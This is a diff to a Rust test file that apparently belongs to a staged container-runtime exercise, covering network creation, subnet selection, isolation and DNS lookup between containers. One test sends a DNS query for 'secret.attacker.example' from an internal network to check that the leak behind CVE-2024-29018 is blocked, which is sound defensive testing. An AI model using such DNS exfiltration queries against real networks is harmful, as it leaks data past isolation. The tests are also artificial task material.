@@ -1,5 +1,5 @@
 //! Day 14: networks that somebody has made, and how containers find each other there.
-#![allow(clippy::unwrap_used)]
+#![allow(clippy::unwrap_used, clippy::expect_used)]
 
 mod common;
 
@@ -130,8 +130,7 @@ fn ask(world: &World, id: &str, name: &str, kind: u8) -> Answer {
         socket.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
         socket.send_to(&message, "127.0.0.11:53").unwrap();
         let mut answer = [0; 4096];
-        let (length, from) =
-            socket.recv_from(&mut answer).expect("an answer of the container's name server");
+        let (length, from) = socket.recv_from(&mut answer).expect("an answer of the container's name server");
         assert_eq!(from.to_string(), "127.0.0.11:53", "who answers");
         Answer::read(&message, &answer[..length])
     })
@@ -198,10 +197,10 @@ fn task5_a_network_is_made_listed_shown_and_removed() {
 fn task5_a_subnet_is_one_that_nobody_has() {
     let world = World::new();
     let subnet = |name: &str| inspect(&world, name)["IPAM"]["Config"][0].clone();
-    sh("ip link add td-lan type dummy && ip addr add 172.18.5.1/24 dev td-lan && ip link set td-lan up").unwrap();
+    sh("ip link add lan0 type bridge && ip addr add 172.18.5.1/24 dev lan0 && ip link set lan0 up").unwrap();
     network(&world, &["create", "one"]);
     let by_host = refused(&world, &["create", "--subnet", "172.18.0.0/20", "two"]);
-    sh("ip link del td-lan").unwrap();
+    sh("ip link del lan0").unwrap();
     network(&world, &["create", "two"]);
     network(&world, &["create", "--subnet", "10.77.0.0/24", "--gateway", "10.77.0.254", "own"]);
     let others = [
@@ -223,7 +222,7 @@ fn task5_a_subnet_is_one_that_nobody_has() {
     for name in ["one", "two", "own"] {
         network(&world, &["rm", name]);
     }
-    assert!(by_host.contains("the host, by td-lan, has 172.18.5.0/24"), "{by_host}");
+    assert!(by_host.contains("the host (by lan0) has 172.18.5.0/24"), "{by_host}");
     assert_eq!(subnets[0]["Subnet"], "172.19.0.0/16", "where the host has a part of 172.18.0.0/16");
     assert_eq!(subnets[1]["Subnet"], "172.18.0.0/16");
     assert_eq!(subnets[2]["Gateway"], "10.77.0.254");
@@ -302,26 +301,29 @@ fn task5_networks_are_kept_apart() {
     let world = World::new();
     network(&world, &["create", "front"]);
     network(&world, &["create", "back"]);
-    let a = world.detach(&["--name", "a", "--net", "front"], FOREVER);
-    let b = world.detach(&["--name", "b", "--net", "back"], FOREVER);
-    let default = world.detach(&["--name", "c"], FOREVER);
+    let a = world.detach(&["--name", "aa", "--net", "front"], FOREVER);
+    let b = world.detach(&["--name", "bb", "--net", "back"], FOREVER);
+    let default = world.detach(&["--name", "cc"], FOREVER);
     let both = world.detach(&["--name", "both", "--net", "front", "--net", "back"], FOREVER);
     let on = |network: &str, id: &str| address_on(&world, network, id);
     let c: Ipv4Addr = world.inspect(&default)["address"].as_str().unwrap().parse().unwrap();
-    assert!(reaches(&world, &a, on("front", &both)) && reaches(&world, &b, on("back", &both)), "in one network");
+    assert!(
+        reaches(&world, &a, on("front", &both)) && reaches(&world, &b, on("back", &both)),
+        "in one network"
+    );
     assert!(reaches(&world, &both, on("front", &a)) && reaches(&world, &both, on("back", &b)), "of two");
     for (from, who, to, whom) in [
-        (&a, "a", on("back", &b), "b"),
-        (&a, "a", on("back", &both), "the other end of both"),
-        (&b, "b", on("front", &a), "a"),
-        (&a, "a", c, "the default network"),
-        (&default, "the default network", on("front", &a), "a"),
+        (&a, "aa", on("back", &b), "bb"),
+        (&a, "aa", on("back", &both), "the other end of both"),
+        (&b, "bb", on("front", &a), "aa"),
+        (&a, "aa", c, "the default network"),
+        (&default, "the default network", on("front", &a), "aa"),
     ] {
         assert!(!reaches(&world, from, to), "{who} reaches {whom} by {to}");
     }
-    assert_eq!(found(&world, &a, "b"), NOBODY, "the name of one on another network");
-    assert_eq!(found(&world, &both, "a"), [on("front", &a)]);
-    assert_eq!(found(&world, &both, "b"), [on("back", &b)]);
+    assert_eq!(found(&world, &a, "bb"), NOBODY, "the name of one on another network");
+    assert_eq!(found(&world, &both, "aa"), [on("front", &a)]);
+    assert_eq!(found(&world, &both, "bb"), [on("back", &b)]);
     assert_eq!(found(&world, &both, "both"), [on("front", &both)], "the first network decides");
     assert_eq!(found(&world, &both, "both.back"), [on("back", &both)]);
     let links = inside(pid(&world, &both), || sh("ip -o -4 addr; ip route show default").unwrap());
@@ -423,9 +425,9 @@ fn task5_an_internal_network_leads_nowhere() {
     network(&world, &["create", "open"]);
     let _host = HostFile::replace("/etc/resolv.conf", &host_file);
     let _server = NameServer::on("127.0.0.1");
-    let a = world.detach(&["--name", "a", "--net", "closed"], FOREVER);
-    let b = world.detach(&["--name", "b", "--net", "closed"], FOREVER);
-    let open = world.detach(&["--name", "c", "--net", "closed", "--net", "open"], FOREVER);
+    let a = world.detach(&["--name", "aa", "--net", "closed"], FOREVER);
+    let b = world.detach(&["--name", "bb", "--net", "closed"], FOREVER);
+    let open = world.detach(&["--name", "cc", "--net", "closed", "--net", "open"], FOREVER);
     let out = Ipv4Addr::new(192, 0, 2, 2);
     assert!(reaches(&world, &a, address_on(&world, "closed", &b)), "one another");
     assert!(!reaches(&world, &a, out), "the world, without a route");
@@ -438,7 +440,7 @@ fn task5_an_internal_network_leads_nowhere() {
     // A question is a way out too. (CVE-2024-29018)
     let leak = ask(&world, &a, "secret.attacker.example", A);
     assert_eq!(leak, Answer { code: NO_SUCH_NAME, data: vec![] }, "a question that leaves");
-    assert_eq!(found(&world, &a, "b"), [address_on(&world, "closed", &b)]);
+    assert_eq!(found(&world, &a, "bb"), [address_on(&world, "closed", &b)]);
     assert_eq!(found(&world, &open, "web.example"), [Ipv4Addr::new(192, 0, 2, 9)]);
     world.remove_all();
     network(&world, &["rm", "closed", "open"]);
